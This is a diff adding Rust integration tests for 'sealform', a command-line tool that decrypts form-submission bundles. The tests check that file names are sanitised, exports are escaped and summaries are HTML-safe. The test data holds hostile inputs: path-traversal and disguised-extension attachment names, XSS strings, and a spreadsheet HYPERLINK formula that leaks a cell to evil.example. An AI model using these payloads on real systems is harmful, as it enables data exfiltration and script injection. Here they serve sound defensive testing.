@@ -9,8 +9,15 @@ use std::fs;
 
 use sealform_core::bundle::ReceiptId;
 use sealform_core::key::{Identity, Recipient};
+use sealform_core::schema::Template;
+use sealform_core::{Answer, Answers, Sha256Digest, Submission};
 use serde_json::Value;
 use util::*;
+
+/// The receipt folder `open --out` makes for a bundle sealed by the helpers (submitted on 2026-11-22).
+fn receipt_folder(bundle: &[u8]) -> String {
+    format!("2026-11-22_{}", ReceiptId::of(bundle).short())
+}
 
 // ---------------------------------------------------------------------------------------------------------------
 // Help
@@ -47,7 +54,7 @@ fn usage_errors_exit_2() {
 // ---------------------------------------------------------------------------------------------------------------
 
 #[test]
-fn keygen_demo_key_writes_a_0600_private_key_and_a_matching_jwk() {
+fn keygen_demo_key_writes_a_0600_private_key_and_a_matching_jwk_that_round_trips() {
     let dir = tempfile::tempdir().expect("temp dir");
     let out = dir.path().join("keys");
     let run = sealform(&[
@@ -94,6 +101,58 @@ fn keygen_demo_key_writes_a_0600_private_key_and_a_matching_jwk() {
         "{}",
         run.stdout
     );
+
+    // The pin snippet, then a round trip: seal to the new public key, open with the new private key.
+    let pin = format!(
+        r#"<script src="https://forms.example/embed.js" data-sealform data-pin="{}"></script>"#,
+        identity.kid().as_str()
+    );
+    assert!(run.stdout.lines().any(|line| line == pin), "{}", run.stdout);
+
+    let bundle = dir.path().join("client.bundle");
+    let photo: Vec<u8> = (0..=255u8).cycle().take(5000).collect();
+    let sealed = seal_sample(
+        &bundle,
+        &[jwk],
+        "id-round-trip",
+        &[
+            ("lease.txt", b"The tenancy agreement"),
+            ("photo.txt", &photo),
+        ],
+    );
+    let opened = dir.path().join("opened");
+    let run = open_into(&private, &opened, &bundle).expect_code(0);
+    // The answers keep every rule of their form: nothing to warn about.
+    assert!(!run.stderr.contains("warning"), "{}", run.stderr);
+
+    let folder = opened.join(receipt_folder(&fs::read(&bundle).expect("read")));
+    let submission: Submission =
+        serde_json::from_str(&fs::read_to_string(folder.join("submission.json")).expect("read"))
+            .expect("a submission document");
+    assert_eq!(submission, sealed);
+    assert_eq!(submission.answers, valid_answers());
+    let consent: Value =
+        serde_json::from_str(&fs::read_to_string(folder.join("consent.json")).expect("read"))
+            .expect("JSON");
+    assert_eq!(
+        consent,
+        serde_json::to_value(&sealed.consent).expect("consent as JSON")
+    );
+    let attachments = folder.join("attachments");
+    assert_eq!(
+        fs::read(attachments.join("lease.txt")).expect("read"),
+        b"The tenancy agreement"
+    );
+    assert_eq!(
+        fs::read(attachments.join("photo.txt")).expect("read"),
+        photo
+    );
+    let summary = fs::read_to_string(folder.join("summary.md")).expect("read");
+    assert!(
+        summary.contains("**Answers checked again:** passed"),
+        "{summary}"
+    );
+    assert!(summary.contains("Harbour \\& Vale"), "{summary}");
 }
 
 #[test]
@@ -337,7 +396,12 @@ fn open_prints_the_verified_submission() {
     assert_eq!(json["attachments"][0]["name"], "tenancy.txt");
     let receipt = header_field(&vector("valid").0, "receipt");
     assert!(run.stderr.contains(&receipt), "{}", run.stderr);
-    assert!(!run.stderr.contains("warning"), "{}", run.stderr);
+    // The vector's answers are a sketch, not a complete intake: re-validation says so, and nothing is dropped.
+    assert!(
+        run.stderr.contains("break a rule of their form"),
+        "{}",
+        run.stderr
+    );
 }
 
 #[test]
@@ -454,8 +518,8 @@ fn a_batch_goes_on_past_a_damaged_bundle() {
 
     sealform(&args(true)).expect_code(1);
     let receipts = [
-        ReceiptId::of(&fs::read(&first).expect("read")).short(),
-        ReceiptId::of(&fs::read(&last).expect("read")).short(),
+        receipt_folder(&fs::read(&first).expect("read")),
+        receipt_folder(&fs::read(&last).expect("read")),
     ];
     let mut expected = receipts.to_vec();
     expected.sort();
@@ -468,6 +532,15 @@ fn a_batch_goes_on_past_a_damaged_bundle() {
     assert_eq!(
         names_in(&out.join(&receipts[0]).join("attachments")),
         ["photo.jpg", "tenancy.txt"]
+    );
+    assert_eq!(
+        names_in(&out.join(&receipts[1])),
+        [
+            "consent.json",
+            "submission.json",
+            "summary.html",
+            "summary.md"
+        ]
     );
 
     // Opening into the same folder again overwrites nothing and skips what is there.
@@ -482,7 +555,8 @@ fn attachment_names_are_made_safe() {
     let dir = tempfile::tempdir().expect("temp dir");
     let key = key_file(dir.path(), "firm", 0o600);
     let bundle = dir.path().join("tricky.bundle");
-    let attachments: [(&str, &[u8]); 8] = [
+    let long = format!("{}.txt", "x".repeat(300));
+    let attachments: [(&str, &[u8]); 14] = [
         ("../../etc/passwd", b"root:x:0:0"),
         ("..", b"dot dot"),
         (".bashrc", b"alias"),
@@ -491,6 +565,12 @@ fn attachment_names_are_made_safe() {
         ("same.txt", b"first"),
         ("same.txt", b"second"),
         ("submission.json", b"{}"),
+        ("/abs", b"absolute"),
+        ("a/b", b"nested"),
+        ("CON", b"device"),
+        ("invoice\u{202E}txt.exe", b"disguised"),
+        (&long, b"long"),
+        ("nul\u{0}.txt", b"nul byte"),
     ];
     seal_sample(
         &bundle,
@@ -499,36 +579,45 @@ fn attachment_names_are_made_safe() {
         &attachments,
     );
     let out = dir.path().join("opened");
-    let run = sealform(&[
-        "open".as_ref(),
-        "--key".as_ref(),
-        key.as_os_str(),
-        "--out".as_ref(),
-        out.as_os_str(),
-        bundle.as_os_str(),
-    ])
-    .expect_code(0)
-    .expect_stderr(&["saved as"]);
-    let receipt = ReceiptId::of(&fs::read(&bundle).expect("read")).short();
+    let run = open_into(&key, &out, &bundle)
+        .expect_code(0)
+        .expect_stderr(&["saved as"]);
+    let receipt = receipt_folder(&fs::read(&bundle).expect("read"));
     assert!(run.stdout.contains(&receipt), "{}", run.stdout);
 
     let folder = out.join(&receipt);
     assert_eq!(names_in(&out), [receipt.as_str()]);
-    assert_eq!(names_in(&folder), ["attachments", "submission.json"]);
-    let saved = folder.join("attachments");
     assert_eq!(
-        names_in(&saved),
+        names_in(&folder),
         [
-            "attachment-2",
-            "bashrc",
-            "bell[31m.txt",
-            "lease.pdf",
-            "passwd",
-            "same-2.txt",
-            "same.txt",
+            "attachments",
+            "consent.json",
             "submission.json",
+            "summary.html",
+            "summary.md"
         ]
     );
+    let saved = folder.join("attachments");
+    let shortened = format!("{}.txt", "x".repeat(196));
+    let mut expected = vec![
+        "_CON",
+        "abs",
+        "attachment-2",
+        "b",
+        "bashrc",
+        "bell[31m.txt",
+        "invoicetxt.exe",
+        "lease.pdf",
+        // The NUL byte is dropped, and what is left is a Windows device name.
+        "_nul.txt",
+        "passwd",
+        "same-2.txt",
+        "same.txt",
+        "submission.json",
+        shortened.as_str(),
+    ];
+    expected.sort_unstable();
+    assert_eq!(names_in(&saved), expected);
     assert_eq!(fs::read(saved.join("passwd")).expect("read"), b"root:x:0:0");
     assert_eq!(
         fs::read(saved.join("attachment-2")).expect("read"),
@@ -536,8 +625,11 @@ fn attachment_names_are_made_safe() {
     );
     assert_eq!(fs::read(saved.join("same.txt")).expect("read"), b"first");
     assert_eq!(fs::read(saved.join("same-2.txt")).expect("read"), b"second");
+    assert_eq!(fs::read(saved.join("_CON")).expect("read"), b"device");
+    assert_eq!(fs::read(saved.join(&shortened)).expect("read"), b"long");
     assert_eq!(mode(&saved.join("passwd")), 0o600);
     assert_eq!(mode(&folder.join("submission.json")), 0o600);
+    assert_eq!(mode(&folder.join("summary.html")), 0o600);
     assert_eq!(mode(&folder), 0o700);
     // Nothing escaped the output folder.
     assert_eq!(
@@ -579,4 +671,359 @@ fn open_explains_a_public_key_given_as_the_key() {
     ])
     .expect_code(2)
     .expect_stderr(&["is a public key", "private key file"]);
+}
+
+/// A batch of good bundles with damaged ones among them, in a folder.
+fn batch_folder(dir: &std::path::Path, count: usize) -> (std::path::PathBuf, Vec<String>) {
+    let inbox = dir.join("inbox");
+    fs::create_dir(&inbox).expect("mkdir");
+    let firm = [identity("firm").recipient().clone()];
+    let stranger = [identity("stranger").recipient().clone()];
+    let mut bad = Vec::new();
+    for i in 0..count {
+        let path = inbox.join(format!("{i:03}.bundle"));
+        let damage = i % 25;
+        let recipients = if damage == 3 { &stranger } else { &firm };
+        seal_sample(
+            &path,
+            recipients,
+            &format!("id-{i}"),
+            &[("note.txt", b"hello")],
+        );
+        let mut bytes = fs::read(&path).expect("read");
+        match damage {
+            1 => bytes.truncate(bytes.len() / 2),
+            2 => {
+                // A flipped bit in the middle of the sealed submission's ciphertext.
+                let middle = bytes.len() / 3;
+                bytes[middle] ^= 0x01;
+            }
+            _ => {}
+        }
+        fs::write(&path, &bytes).expect("write");
+        if (1..=3).contains(&damage) {
+            bad.push(path.display().to_string());
+        }
+    }
+    (inbox, bad)
+}
+
+#[test]
+fn a_batch_of_200_opens_the_good_names_the_bad_and_reruns_skip() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let key = key_file(dir.path(), "firm", 0o600);
+    let (inbox, bad) = batch_folder(dir.path(), 200);
+    let out = dir.path().join("opened");
+    let export = dir.path().join("all.csv");
+    let args = [
+        "open".as_ref(),
+        "--key".as_ref(),
+        key.as_os_str(),
+        "--out".as_ref(),
+        out.as_os_str(),
+        "--export".as_ref(),
+        export.as_os_str(),
+        inbox.as_os_str(),
+    ];
+    let started = std::time::Instant::now();
+    let run = sealform(&args).expect_code(1);
+    let took = started.elapsed();
+    assert_eq!(bad.len(), 24);
+    for name in &bad {
+        assert!(
+            run.stderr.contains(name.as_str()),
+            "{name} not named\n{}",
+            run.stderr
+        );
+    }
+    assert!(run.stderr.contains("you gave kid"), "{}", run.stderr);
+    assert!(
+        run.stderr.contains("damaged or was tampered with"),
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.stderr.contains("24 of 200 bundles could not be opened"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(names_in(&out).len(), 176);
+    assert_eq!(run.stdout.lines().count(), 176, "{}", run.stdout);
+    // Results are reported in input order, whichever core opened them.
+    let opened: Vec<&str> = run.stdout.lines().collect();
+    let mut sorted = opened.clone();
+    sorted.sort_unstable();
+    assert_eq!(opened, sorted);
+    let table = fs::read_to_string(&export).expect("export");
+    assert_eq!(table.lines().count(), 177, "a header and a row each");
+    eprintln!("200 bundles opened in {took:?}");
+
+    let again = sealform(&args).expect_code(1);
+    assert_eq!(
+        again.stderr.matches("Skipped").count(),
+        176,
+        "{}",
+        again.stderr
+    );
+    assert!(again.stdout.is_empty(), "{}", again.stdout);
+    assert_eq!(names_in(&out).len(), 176);
+}
+
+#[test]
+fn the_export_defuses_formulas() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let key = key_file(dir.path(), "firm", 0o600);
+    let firm = [identity("firm").recipient().clone()];
+    let cells = [
+        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
+        "+1",
+        "-2",
+        "@SUM(A1:A9)",
+        "\tTabbed",
+        "\rReturned",
+        "\u{FF1D}1+1",
+    ];
+    let mut bundles = Vec::new();
+    for (i, cell) in cells.iter().enumerate() {
+        let mut answers = valid_answers();
+        answers.insert("full_name", Answer::Text((*cell).to_owned()));
+        answers.insert(
+            "description",
+            Answer::Text(format!("{cell} in a description")),
+        );
+        let path = dir.path().join(format!("{i}.bundle"));
+        seal_answers(&path, &firm, &format!("id-{i}"), answers, &[]);
+        bundles.push(path);
+    }
+    for (name, check) in [("all.csv", true), ("all.json", false)] {
+        let export = dir.path().join(name);
+        let mut args = vec![
+            "open".as_ref(),
+            "--key".as_ref(),
+            key.as_os_str(),
+            "--export".as_ref(),
+            export.as_os_str(),
+        ];
+        args.extend(bundles.iter().map(|path| path.as_os_str()));
+        sealform(&args).expect_code(0);
+        if check {
+            let mut reader = csv::Reader::from_path(&export).expect("CSV");
+            let headers = reader.headers().expect("headers").clone();
+            let column = |name: &str| headers.iter().position(|h| h == name).expect(name);
+            let (full_name, description) = (column("full_name"), column("description"));
+            let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+            for (row, cell) in rows.iter().zip(cells) {
+                assert_eq!(&row[full_name], format!("'{cell}"));
+                assert_eq!(&row[description], format!("'{cell} in a description"));
+            }
+            assert_eq!(rows.len(), cells.len());
+        } else {
+            // JSON is not opened by spreadsheets: the values stay exactly as the client wrote them.
+            let json: Value =
+                serde_json::from_str(&fs::read_to_string(&export).expect("read")).expect("JSON");
+            assert_eq!(json[1]["full_name"], "+1");
+        }
+        assert_eq!(mode(&export), 0o600);
+    }
+}
+
+#[test]
+fn summaries_escape_what_the_client_wrote() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let key = key_file(dir.path(), "firm", 0o600);
+    let mut answers = valid_answers();
+    answers.insert(
+        "full_name",
+        Answer::Text("<script>alert('x')</script>".into()),
+    );
+    answers.insert(
+        "description",
+        Answer::Text(
+            "[click me](https://evil.example)\n# Not a heading <img src=x onerror=alert(1)>".into(),
+        ),
+    );
+    let bundle = dir.path().join("client.bundle");
+    seal_answers(
+        &bundle,
+        &[identity("firm").recipient().clone()],
+        "id-xss",
+        answers,
+        &[("<b>bold</b>.txt", b"x")],
+    );
+    let out = dir.path().join("opened");
+    open_into(&key, &out, &bundle).expect_code(0);
+    let folder = out.join(receipt_folder(&fs::read(&bundle).expect("read")));
+    let html = fs::read_to_string(folder.join("summary.html")).expect("read");
+    assert!(
+        html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"),
+        "{html}"
+    );
+    assert!(!html.contains("<script"), "{html}");
+    assert!(!html.contains("<img"), "{html}");
+    assert!(!html.contains("<b>"), "{html}");
+    let markdown = fs::read_to_string(folder.join("summary.md")).expect("read");
+    assert!(markdown.contains(r"\<script\>"), "{markdown}");
+    assert!(
+        markdown.contains(r"\[click me\]\(https\:\/\/evil\.example\)"),
+        "{markdown}"
+    );
+    assert!(markdown.contains("\\\n  \\# Not a heading"), "{markdown}");
+    // Every `<` is escaped, so no raw HTML can start.
+    assert!(!markdown.replace(r"\<", "").contains('<'), "{markdown}");
+}
+
+#[test]
+fn answers_that_break_their_form_are_saved_with_a_warning() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let key = key_file(dir.path(), "firm", 0o600);
+    let mut answers = valid_answers();
+    answers.insert("email", Answer::Text("not an email address".into()));
+    let bundle = dir.path().join("client.bundle");
+    seal_answers(
+        &bundle,
+        &[identity("firm").recipient().clone()],
+        "id-bad",
+        answers,
+        &[],
+    );
+    let out = dir.path().join("opened");
+    open_into(&key, &out, &bundle)
+        .expect_code(0)
+        .expect_stderr(&["warning", "break a rule of their form", "email:"]);
+    let folder = out.join(receipt_folder(&fs::read(&bundle).expect("read")));
+    let summary = fs::read_to_string(folder.join("summary.md")).expect("read");
+    assert!(
+        summary.contains("**Answers checked again:** 1 problem"),
+        "{summary}"
+    );
+    assert!(summary.contains("email\\:"), "{summary}");
+    let html = fs::read_to_string(folder.join("summary.html")).expect("read");
+    assert!(html.contains("class=\"problems\""), "{html}");
+}
+
+#[test]
+fn a_form_sealform_does_not_know_is_named_and_can_be_given() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let key = key_file(dir.path(), "firm", 0o600);
+    let form_path = core_data().join("schemas/all-kinds.json");
+    let form_bytes = fs::read(&form_path).expect("read form");
+    let template = Template::from_json(&form_bytes).expect("a form");
+    let digest = Sha256Digest::of(&form_bytes);
+    let bundle = dir.path().join("client.bundle");
+    seal_to_form(
+        &bundle,
+        &[identity("firm").recipient().clone()],
+        template.schema(),
+        digest,
+        "id-custom",
+        Answers::default(),
+        &[],
+    );
+    let open = |schema: Option<&std::path::Path>| {
+        let mut args = vec!["open".as_ref(), "--key".as_ref(), key.as_os_str()];
+        if let Some(schema) = schema {
+            args.extend(["--schema".as_ref(), schema.as_os_str()]);
+        }
+        args.push(bundle.as_os_str());
+        sealform(&args).expect_code(0)
+    };
+    open(None).expect_stderr(&[&format!(
+        "schema {digest} not available; answers not re-validated (give it with --schema)"
+    )]);
+    let run = open(Some(&form_path));
+    assert!(!run.stderr.contains("not available"), "{}", run.stderr);
+    assert!(
+        run.stderr.contains("break a rule of their form"),
+        "{}",
+        run.stderr
+    );
+
+    let not_a_form = dir.path().join("form.json");
+    fs::write(&not_a_form, "{}").expect("write");
+    sealform(&[
+        "open".as_ref(),
+        "--key".as_ref(),
+        key.as_os_str(),
+        "--schema".as_ref(),
+        not_a_form.as_os_str(),
+        bundle.as_os_str(),
+    ])
+    .expect_code(2)
+    .expect_stderr(&["--schema", "form.json"]);
+}
+
+#[test]
+fn inspect_json_lists_every_part() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let file = vector_file(dir.path(), "valid");
+    let broken = dir.path().join("broken.bundle");
+    fs::write(&broken, "{").expect("write");
+    let run = sealform(&[
+        "inspect".as_ref(),
+        "--json".as_ref(),
+        file.as_os_str(),
+        broken.as_os_str(),
+    ])
+    .expect_code(1);
+    let json: Value = serde_json::from_str(&run.stdout).expect("one JSON document");
+    let receipt = header_field(&vector("valid").0, "receipt");
+    assert_eq!(json[0]["receipt_id"], receipt.as_str());
+    assert_eq!(json[0]["format_version"], 1);
+    assert_eq!(json[0]["attachments"], 2);
+    assert_eq!(json[0]["parts"][2]["part"], "attachment 2");
+    assert_eq!(
+        json[0]["parts"][2]["sealed_for"][1],
+        identity("backup").kid().as_str()
+    );
+    assert_eq!(json[1]["file"], broken.display().to_string());
+    assert!(json[1]["error"].is_string());
+}
+
+#[test]
+fn again_replaces_a_receipt_folder() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let key = key_file(dir.path(), "firm", 0o600);
+    let bundle = dir.path().join("client.bundle");
+    seal_sample(
+        &bundle,
+        &[identity("firm").recipient().clone()],
+        "id-again",
+        &[],
+    );
+    let out = dir.path().join("opened");
+    let args = |again: bool| {
+        let mut args = vec![
+            "open".as_ref(),
+            "--key".as_ref(),
+            key.as_os_str(),
+            "--out".as_ref(),
+            out.as_os_str(),
+        ];
+        if again {
+            args.push("--again".as_ref());
+        }
+        args.push(bundle.as_os_str());
+        args
+    };
+    sealform(&args(false)).expect_code(0);
+    let folder = out.join(receipt_folder(&fs::read(&bundle).expect("read")));
+    fs::remove_file(folder.join("summary.md")).expect("remove");
+    sealform(&args(false))
+        .expect_code(0)
+        .expect_stderr(&["already opened", "--again"]);
+    assert!(!folder.join("summary.md").exists());
+    sealform(&args(true)).expect_code(0);
+    assert!(folder.join("summary.md").exists());
+    assert_eq!(names_in(&out).len(), 1);
+}
+
+#[test]
+fn help_and_usage_errors_are_pinned() {
+    trycmd::TestCases::new()
+        .register_bin(
+            "sealform",
+            std::path::Path::new(env!("CARGO_BIN_EXE_sealform")),
+        )
+        .env("COLUMNS", "100")
+        .case("tests/cmd/*.md");
 }
